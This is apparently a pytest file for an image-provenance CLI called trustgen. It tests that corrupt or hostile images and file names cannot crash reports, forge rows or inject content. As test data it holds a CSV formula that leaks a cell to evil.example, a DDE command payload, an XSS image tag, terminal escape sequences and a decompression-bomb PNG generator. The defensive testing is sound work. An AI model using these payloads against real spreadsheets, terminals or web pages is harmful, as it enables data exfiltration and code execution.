"""Hostile files against every command: one bad file costs only its own row, and nothing a
file says about itself (its name, its signer, a decoder's message) can forge a row, drive the
terminal, run in a spreadsheet or abort a report."""

from __future__ import annotations

import csv
import io
import json
import os
import struct
import sys
import warnings
import zlib
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from PIL import Image

from trustgen.cli import cli
from trustgen.display import csv_cell, safe_text
from trustgen.evidence import Evidence, ManifestEvidence, Reason, Signer, Verdict
from trustgen.media import encode_image
from trustgen.report import render_csv, render_html

#: What a hostile name may hold: a forged table row, a window title and clear-screen
#: sequence, a C1 control sequence introducer, a right-to-left override.
FORGED = "forged.jpg  absent  none  -  trusted-capture  pass\n"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egpj.exe"


def run(*args):
    args = [os.fsdecode(a) if isinstance(a, bytes) else str(a) for a in args]
    return CliRunner().invoke(cli, args, prog_name="trustgen")


def noise_png(path: Path, seed: int = 0, side: int = 256) -> Path:
    pixels = np.random.default_rng(seed).integers(0, 256, (side, side, 3), dtype=np.uint8)
    path.write_bytes(encode_image(Image.fromarray(pixels), "png"))
    return path


def corrupt_avif(path: Path) -> Path:
    """An AVIF with one byte flipped where Pillow's own decoder then raises a RuntimeError
    (not an OSError): found by trying each byte of the first few hundred."""
    from PIL import features

    if not features.check("avif"):
        pytest.skip("this Pillow has no AVIF support")
    pixels = np.random.default_rng(0).integers(0, 256, (256, 256, 3), dtype=np.uint8)
    buf = io.BytesIO()
    Image.fromarray(pixels).save(buf, "AVIF")
    data = buf.getvalue()
    for at in range(32, min(len(data), 1024)):
        flipped = data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1:]
        try:
            with Image.open(io.BytesIO(flipped)) as img:
                img.load()
        except RuntimeError:
            path.write_bytes(flipped)
            return path
        except Exception:  # noqa: BLE001 - a failure Pillow reports as usual: try the next byte
            continue
    pytest.skip("no single-byte flip makes this libavif raise a RuntimeError")


@pytest.fixture
def crashing_decoder(monkeypatch):
    """Fault injection: trustgen's decoder, wherever a module bound it, raises what no handler
    expects on a file whose name starts with ``crash``, as a broken codec would."""
    import detectors.folders  # noqa: F401 - bound below if it binds the decoder
    import trustgen.media
    import trustgen.report
    import trustgen.verify  # noqa: F401

    original = trustgen.media.decode_image

    def decode_image(data, *args, path=None, **kwargs):
        if path is not None and Path(path).name.startswith("crash"):
            raise RuntimeError("decoder exploded")
        return original(data, *args, path=path, **kwargs)

    for name, module in list(sys.modules.items()):
        if name.split(".")[0] in ("trustgen", "detectors") \
                and getattr(module, "decode_image", None) is original:
            monkeypatch.setattr(module, "decode_image", decode_image)


# --- one bad file costs only its own row ---------------------------------------------------


def _one_error_line(result, name: str, *kinds: str) -> str:
    errors = [line for line in result.stderr.splitlines() if line.startswith("trustgen: error:")]
    assert len(errors) == 1, result.stderr
    assert name in errors[0] and any(kind in errors[0] for kind in kinds), errors[0]
    assert "Traceback" not in result.output
    return errors[0]


def test_a_corrupt_avif_is_its_own_row_and_every_report_is_written(identity, tmp_path):
    bad, good = corrupt_avif(tmp_path / "bad.avif"), noise_png(tmp_path / "good.png")
    out = tmp_path / "out"
    result = run("verify", good, bad, "--no-detector", "--report", out / "r.html",
                 "--csv", out / "r.csv", "--jsonl", out / "r.jsonl")
    assert result.exit_code == 2
    _one_error_line(result, str(bad), "RuntimeError", "cannot decode")
    records = [json.loads(line) for line in (out / "r.jsonl").read_text().splitlines()]
    assert [r["verdict"] for r in records] == ["no-evidence", "error"]
    assert len(list(csv.DictReader(open(out / "r.csv")))) == 2
    assert (out / "r.html").read_text().count('class="row"') == 2

    for command in (["watermark", "detect"], ["detect"]):
        result = run(*command, good, bad, "--json")
        assert result.exit_code == 2
        _one_error_line(result, str(bad), "RuntimeError", "cannot decode")
        assert [json.loads(line)["path"] for line in result.stdout.splitlines()] == [str(good)]
    result = run("watermark", "embed", bad, "-o", tmp_path / "marked.png")
    assert result.exit_code == 2 and not (tmp_path / "marked.png").exists()
    _one_error_line(result, str(bad), "RuntimeError", "cannot decode")


def test_an_unexpected_decoder_failure_is_one_files_error_in_every_command(
        identity, crashing_decoder, tmp_path):
    good, crash = noise_png(tmp_path / "good.png"), noise_png(tmp_path / "crash.png", seed=1)
    out = tmp_path / "out"
    result = run("verify", crash, good, "--no-detector", "--report", out / "r.html",
                 "--csv", out / "r.csv", "--jsonl", out / "r.jsonl")
    assert result.exit_code == 2
    line = _one_error_line(result, str(crash), "RuntimeError: decoder exploded")
    assert line == f"trustgen: error: {crash}: verification crashed: RuntimeError: decoder exploded"
    assert len((out / "r.jsonl").read_text().splitlines()) == 2
    html = (out / "r.html").read_text()
    assert html.count('class="row"') == 2 and html.count('class="thumb"') == 1

    for command, what in ((["watermark", "detect"], "watermark detection"), (["detect"], "decoding")):
        result = run(*command, crash, good, "--json")
        assert result.exit_code == 2
        line = _one_error_line(result, str(crash), "RuntimeError")
        assert line == f"trustgen: error: {crash}: {what} crashed: RuntimeError: decoder exploded"
        assert [json.loads(line)["path"] for line in result.stdout.splitlines()] == [str(good)]
    result = run("watermark", "embed", crash, "-o", tmp_path / "marked.png")
    assert result.exit_code == 2
    assert result.stderr == (f"trustgen: error: {crash}: decoding crashed: RuntimeError: "
                             "decoder exploded\n")


def _with_exif(jpeg: bytes, exif: bytes) -> bytes:
    """``jpeg`` with an Exif APP1 segment after its JFIF one, where Pillow reads it lazily: a
    malformed one fails late, in whatever asks for the orientation."""
    payload = b"Exif\x00\x00" + exif
    at = 4 + struct.unpack(">H", jpeg[4:6])[0]
    return jpeg[:at] + b"\xff\xe1" + struct.pack(">H", len(payload) + 2) + payload + jpeg[at:]


def test_junk_exif_in_a_signed_photo_keeps_its_credentials(identity, tmp_path):
    from credentials.pki import image_bytes  # tests/ is on sys.path
    from trustgen.credentials.sign import sign_image

    photo = tmp_path / "photo.jpg"
    junk = bytes(np.random.default_rng(0).integers(0, 256, 100, dtype=np.uint8))
    photo.write_bytes(sign_image(_with_exif(image_bytes("jpeg", size=256), junk), "jpeg",
                                 identity.signer(), source_type="digitalCapture"))
    result = run("verify", photo, "--no-detector", "--json")
    record = json.loads(result.stdout)
    assert record["c2pa"]["state"] == "trusted"  # whatever the pixel side made of the EXIF
    assert "Traceback" not in result.output
    detect = run("watermark", "detect", photo)
    assert "Traceback" not in detect.output and len(detect.stderr.splitlines()) <= 1


# --- what a file says cannot be turned against the reader ---------------------------------


def test_safe_text_escapes_controls_bidi_and_undecodable_bytes_only():
    assert safe_text("a\nb\tc\x1b[2J\x7f\x9b\u202e") == "a\\x0ab\\x09c\\x1b[2J\\x7f\\x9b\\u202e"
    assert safe_text(os.fsdecode(b"caf\xe9.png")) == "caf\\xe9.png"
    assert safe_text("日本語 café ✓.png") == "日本語 café ✓.png"


def _signed_verdict(common_name: str, path: str, error: str | None = None) -> Verdict:
    signer = Signer(common_name=common_name, organization=None, issuer=None, time=None)
    return Verdict("untrusted-capture", "warn", (Reason("c2pa.untrusted", f"Signer {common_name}."),),
                   Evidence(path, error=error, c2pa=ManifestEvidence(state="valid", signer=signer)))


def test_csv_cells_cannot_run_as_formulas():
    link = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    rows = list(csv.reader(io.StringIO(render_csv([
        _signed_verdict(link, "-2+3.jpg", error="@SUM(A1:A9)"),
        _signed_verdict("+cmd|' /C calc'!A0", "\t=1+1.jpg"),
    ]).decode())))
    header, first, second = rows
    cell = dict(zip(header, first))
    assert (cell["signer"], cell["path"], cell["error"]) == (f"'{link}", "'-2+3.jpg", "'@SUM(A1:A9)")
    assert cell["reasons"] == f"Signer {link}."  # starts with text: left as it is
    cell = dict(zip(header, second))
    assert (cell["signer"], cell["path"]) == ("'+cmd|' /C calc'!A0", "\\x09=1+1.jpg")
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None  # numbers stay numbers


def test_a_hostile_file_name_cannot_forge_a_row_or_drive_the_terminal(identity, tmp_path):
    named = noise_png(tmp_path / f"{FORGED}{ESCAPES}.png")
    broken = tmp_path / f"{FORGED}broken{ESCAPES}.png"
    broken.write_bytes(b"not an image")
    result = run("verify", named, broken, "--no-detector", "--csv", tmp_path / "r.csv",
                 "--report", tmp_path / "r.html", "--progress")
    header, rule, *rows = result.stdout.splitlines()
    assert len(rows) == 2 and "trusted-capture" not in "".join(r.split()[-2] for r in rows)
    errors = [line for line in result.stderr.splitlines() if "trustgen: error:" in line]
    assert len(errors) == 1 and "not an image file" in errors[0]
    for text in (result.stdout, result.stderr.replace("\r\x1b[K", "").replace("\r", ""),
                 (tmp_path / "r.csv").read_text(), (tmp_path / "r.html").read_text()):
        assert not any(ch in text for ch in "\x1b\x07\x9b\u202e"), repr(text)
        assert "forged.jpg  absent  none  -  trusted-capture  pass\\x0a" in text
    assert len((tmp_path / "r.csv").read_text().splitlines()) == 3
    as_json = run("verify", named, "--no-detector", "--json")
    assert as_json.stdout.isascii() and len(as_json.stdout.splitlines()) == 1
    assert json.loads(as_json.stdout)["path"] == str(named)  # escaped by JSON itself, exact
    for command in (["watermark", "detect"], ["detect"]):
        result = run(*command, named, broken)
        assert result.stdout.count("\n") == 3 and len(result.stderr.splitlines()) == 1
        assert not any(ch in result.output for ch in "\x1b\x07\x9b\u202e")


def test_a_name_that_is_not_utf8_is_shown_escaped_and_kept_exact_in_json(identity, tmp_path):
    raw = os.path.join(os.fsencode(tmp_path), b"caf\xe9.png")
    try:
        noise_png(Path(os.fsdecode(raw)))
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    out = tmp_path / "out"
    result = run("verify", raw, "--no-detector", "--report", out / "r.html", "--csv", out / "r.csv",
                 "--jsonl", out / "r.jsonl")
    assert result.exit_code == 1, result.output  # random pixels: no evidence
    assert "caf\\xe9.png" in result.stdout
    for report in ("r.csv", "r.html"):
        assert "caf\\xe9.png" in (out / report).read_text()
    (record,) = (json.loads(line) for line in (out / "r.jsonl").read_text().splitlines())
    assert os.fsencode(record["path"]) == raw  # JSON escapes it itself (\udce9): exact
    as_json = run("verify", raw, "--no-detector", "--json")
    assert os.fsencode(json.loads(as_json.stdout)["path"]) == raw
    assert as_json.stdout.isascii()


def test_html_report_keeps_hostile_names_as_text():
    html = render_html([_signed_verdict(f"<b>{ESCAPES}", f"<img src=x onerror=alert(1)>{FORGED}")],
                       thumbnails=False).decode()
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert not any(ch in html for ch in "\x1b\x07\x9b\u202e")


# --- the CLI's own output ---------------------------------------------------------------------


def _bomb_png(path: Path) -> Path:
    """A 10000 x 10000 grey PNG in 60 bytes of header: past Pillow's decompression-bomb
    warning (89 M pixels) and trustgen's pixel limit."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 10000, 10000, 8, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
                     + chunk(b"IDAT", zlib.compress(b"\0" * 10001)) + chunk(b"IEND", b""))
    return path


def _truncated_exif_jpeg(path: Path) -> Path:
    """A JPEG whose Exif IFD claims more than it holds: Pillow warns "Corrupt EXIF data"."""
    ifd = b"II*\x00" + struct.pack("<IH", 8, 5) + b"\x12\x01\x03\x00"
    path.write_bytes(_with_exif(encode_image(Image.new("RGB", (300, 300), "grey"), "jpeg"), ifd))
    return path


def test_library_warnings_never_reach_the_user(identity, tmp_path):
    files = (_bomb_png(tmp_path / "bomb.png"), _truncated_exif_jpeg(tmp_path / "exif.jpg"))
    for command in (["verify", "--no-detector"], ["watermark", "detect"]):
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            result = run(*command, *files)
        assert caught == [] and "Warning" not in result.output
        (line,) = [line for line in result.stderr.splitlines() if line.startswith("trustgen:")]
        assert line.startswith(f"trustgen: error: {files[0]}: ")  # the bomb's own error only
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        run("--debug", "verify", "--no-detector", files[0])
    assert caught  # --debug shows them


@pytest.mark.parametrize("args, message", [
    (["verify"], "Missing argument 'PATHS...'; see 'trustgen verify -h'"),
    (["verify", "x.png", "--bogus"], "No such option '--bogus'; see 'trustgen verify -h'"),
    (["verify", "x.png", "--workers", "0"], "Invalid value for '--workers'"),
    (["watermark", "embed", "x.png"], "Missing option '-o' / '--output'"),
    (["nosuch"], "No such command 'nosuch'; see 'trustgen -h'"),
    (["--bogus"], "No such option '--bogus'; see 'trustgen -h'"),
    (["verify", "x.png", f"--{FORGED}"], "No such option '--forged.jpg"),
])
def test_a_usage_error_is_one_line(args, message):
    result = run(*args)
    assert result.exit_code == 2
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"trustgen: error: {message}"), line
    assert result.stdout == ""


def test_no_arguments_still_shows_the_help():
    result = run()
    assert "Commands:" in result.output and "trustgen: error" not in result.output
